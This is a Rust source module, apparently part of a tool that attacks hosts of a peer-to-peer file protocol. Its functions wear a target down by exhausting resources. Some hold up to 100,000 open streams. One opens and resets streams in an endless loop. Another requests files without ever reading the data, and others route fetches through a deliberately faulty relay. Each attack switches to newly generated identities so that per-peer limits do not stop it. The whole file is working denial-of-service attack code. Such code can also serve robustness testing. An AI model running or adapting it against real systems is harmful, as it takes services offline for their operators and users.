//! Peers that mean no good: hosts that the target has shaken hands with, or is about to.

use std::time::Duration;

use sss::{ConnectError, Host, Identity, NegotiationError, Stream};
use sss_files::{Greeting, PROTOCOL, SERVICE};
use tokio::net::UdpSocket;
use tokio::runtime::Runtime;
use tokio::task::JoinSet;

use crate::error::AttackError;
use crate::relay::{self, Fault, Relay};
use crate::tally::Tally;
use crate::target::Target;
use crate::victim::Victim;

/// Streams that one peer has open at most, so that this program's own memory is bounded.
const STREAMS: usize = 100_000;
/// Time for which a handshake that fails is waited for.
const PATIENCE: Duration = Duration::from_secs(1);
/// Time for which a target is looked for.
const SEARCH: Duration = Duration::from_secs(3);
/// Peers that vanished, of which is counted what is sent to them afterwards.
const GONE: usize = 200;
/// Streams that ask for a file at once.
const REQUESTS: usize = 1000;

/// A runtime for hosts of this program.
pub(crate) fn runtime() -> std::io::Result<Runtime> {
    tokio::runtime::Builder::new_current_thread().enable_all().build()
}

/// Shakes hands with the target once, as an honest host does, so that nobody believes to have attacked where nobody is.
///
/// # Errors
/// Nobody answers who holds the key of the target's EID. Whoever says that it wants no strangers has answered.
pub(crate) fn meet(target: &Target) -> Result<(), AttackError> {
    let runtime = runtime()?;
    let met = runtime.block_on(async {
        let host = host(target, &Tally::default()).await?;
        let connecting = host.connect(target.eid, SERVICE, PROTOCOL);
        let met = match connecting.hint(target.address).timeout(SEARCH).await {
            Ok(_) | Err(ConnectError::Negotiation(NegotiationError::Forbidden { .. })) => Ok(()),
            Err(error) => Err(AttackError::NotThere(error)),
        };
        // The target keeps nothing of it; if it does not answer any more, that is seen soon enough.
        let _ = host.close_within(PATIENCE).await;
        met
    });
    runtime.shutdown_background();
    met
}

async fn host(target: &Target, tally: &Tally) -> Result<Host, AttackError> {
    tally.peer();
    let host = Host::builder().identity(Identity::generate()).bind(target.source(0, 1));
    Ok(host.build().await?)
}

/// A session of the file protocol; none if the target does not take one.
pub(crate) async fn session(host: &Host, victim: &Victim) -> Option<Stream> {
    let connecting = host.connect(victim.target.eid, SERVICE, PROTOCOL);
    let mut stream = connecting.hint(victim.target.address).await.ok()?;
    stream.write_all(&Greeting::default().encode()).await.ok()?;
    Some(stream)
}

/// A stream on which a file is asked for.
pub(crate) async fn ask(session: &Stream, request: &[u8], tally: &Tally) -> Option<Stream> {
    let mut stream = session.open_substream().ok()?;
    tally.stream();
    stream.write_all(request).await.ok()?;
    stream.finish().ok()?;
    Some(stream)
}

/// Opens streams without end, and keeps them; with another identity when there is no more room for this one.
pub(crate) async fn open(victim: &Victim, tally: &Tally) -> Result<(), AttackError> {
    let mut kept = Vec::new();
    loop {
        let host = host(&victim.target, tally).await?;
        let Some(session) = session(&host, victim).await else {
            continue;
        };
        let mut streams = Vec::new();
        while streams.len() + kept.len() < STREAMS {
            let Ok(mut stream) = session.open_substream() else {
                break;
            };
            tally.stream();
            let written = tokio::time::timeout(PATIENCE, stream.write_all(b"\x02")).await;
            streams.push((host.clone(), stream));
            if !matches!(written, Ok(Ok(()))) {
                break;
            }
        }
        kept.append(&mut streams);
        if kept.len() >= STREAMS {
            std::future::pending::<()>().await;
        }
    }
}

/// Opens streams and resets them, without end.
pub(crate) async fn reset(victim: &Victim, tally: &Tally) -> Result<(), AttackError> {
    let request = victim.request()?;
    loop {
        let host = host(&victim.target, tally).await?;
        let Some(session) = session(&host, victim).await else {
            continue;
        };
        while let Ok(mut stream) = session.open_substream() {
            tally.stream();
            if !matches!(
                tokio::time::timeout(PATIENCE, stream.write_all(&request)).await,
                Ok(Ok(()))
            ) {
                break;
            }
            stream.reset_tree(7);
            tokio::task::yield_now().await;
        }
    }
}

/// Asks for a file on very many streams, and reads none of them.
pub(crate) async fn unread(victim: &Victim, tally: &Tally) -> Result<(), AttackError> {
    let request = victim.request()?;
    let mut kept = Vec::new();
    loop {
        let host = host(&victim.target, tally).await?;
        let Some(session) = session(&host, victim).await else {
            continue;
        };
        for _ in 0..REQUESTS {
            match tokio::time::timeout(PATIENCE, ask(&session, &request, tally)).await {
                Ok(Some(stream)) => kept.push(stream),
                _ => break,
            }
        }
        if kept.len() >= STREAMS {
            std::future::pending::<()>().await;
        }
    }
}

/// Asks for a file through a relay, again and again.
pub(crate) async fn fetch_by_relay(victim: &Victim, fault: Fault, tally: &Tally) -> Result<(), AttackError> {
    loop {
        fetch_once(victim, fault, tally).await?;
    }
}

/// Begins what a fault of the relay lets nobody finish, and then again with another identity.
pub(crate) async fn one_after_another(victim: &Victim, fault: Fault, tally: &Tally) -> Result<(), AttackError> {
    let mut gone = JoinSet::new();
    loop {
        let attempt = tokio::time::timeout(PATIENCE, fetch_once(victim, fault, tally));
        let socket = attempt.await.unwrap_or(Ok(None))?;
        if let Some(socket) = socket.filter(|_| gone.len() < GONE) {
            tally.gone();
            gone.spawn(relay::listen_on(socket, tally.clone()));
        }
    }
}

/// Asks for a file through a relay until one of both is at its end. Returns the socket of a relay that cut both off.
async fn fetch_once(victim: &Victim, fault: Fault, tally: &Tally) -> Result<Option<UdpSocket>, AttackError> {
    let request = victim.request()?;
    let relay = Relay::new(fault, victim.target, tally).await?;
    let mut behind = victim.clone();
    behind.target.address = relay.address()?;
    let host = host(&victim.target, tally).await?;
    let fetching = async {
        let session = session(&host, &behind).await?;
        while let Some(mut stream) = ask(&session, &request, tally).await {
            while let Ok(Some(_)) = stream.read_chunk(1 << 16).await {}
        }
        Some(())
    };
    tokio::select! {
        end = relay.run() => Ok(Some(end?)),
        _ = fetching => Ok(None),
    }
}
